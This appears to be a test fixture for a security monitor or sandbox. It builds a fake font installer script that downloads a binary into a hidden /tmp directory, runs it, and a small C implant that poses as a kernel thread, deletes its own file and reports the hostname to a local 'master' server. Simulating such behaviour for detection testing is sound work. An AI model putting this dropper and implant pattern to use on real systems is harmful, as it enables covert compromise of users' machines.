# A downloader fetches a program over the network into a hidden directory of /tmp, makes it executable and runs it. The
# program takes the name of a kernel thread, removes its own file and reports to its master, all within a second.
directory=/home/sam
command=(sh /home/sam/Downloads/free-fonts.sh)

prepare() {
    mkdir -p /home/sam/Downloads /run/web
    cat >/home/sam/Downloads/free-fonts.sh <<'END'
#!/bin/sh
echo 'Installing fonts ...'
mkdir -p /tmp/.font-cache
curl -s -o /tmp/.font-cache/fontd http://127.0.0.1:8000/fontd
chmod +x /tmp/.font-cache/fontd
/tmp/.font-cache/fontd 8001
rmdir /tmp/.font-cache
echo 'Done.'
END
    chown -R sam: /home/sam

    cat >/run/fontd.c <<'END'
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>

int main(int argc, char **argv) {
    char self[256] = {0}, report[512];
    struct utsname machine;
    struct sockaddr_in master = {.sin_family = AF_INET, .sin_port = htons(argc > 1 ? atoi(argv[1]) : 0)};
    master.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    prctl(PR_SET_NAME, "kworker/0:1");
    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0 || unlink(self) != 0) return 1;
    uname(&machine);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&master, sizeof master) != 0) return 2;
    int n = snprintf(report, sizeof report,
                     "POST /hello HTTP/1.0\r\nContent-Length: %zu\r\n\r\n%s", strlen(machine.nodename), machine.nodename);
    if (send(s, report, n, 0) != n) return 3;
    recv(s, report, sizeof report, 0);
    return 0;
}
END
    gcc -O1 -o /run/web/fontd /run/fontd.c
    other_side files 8000 /run/web
    other_side sink 8001
}
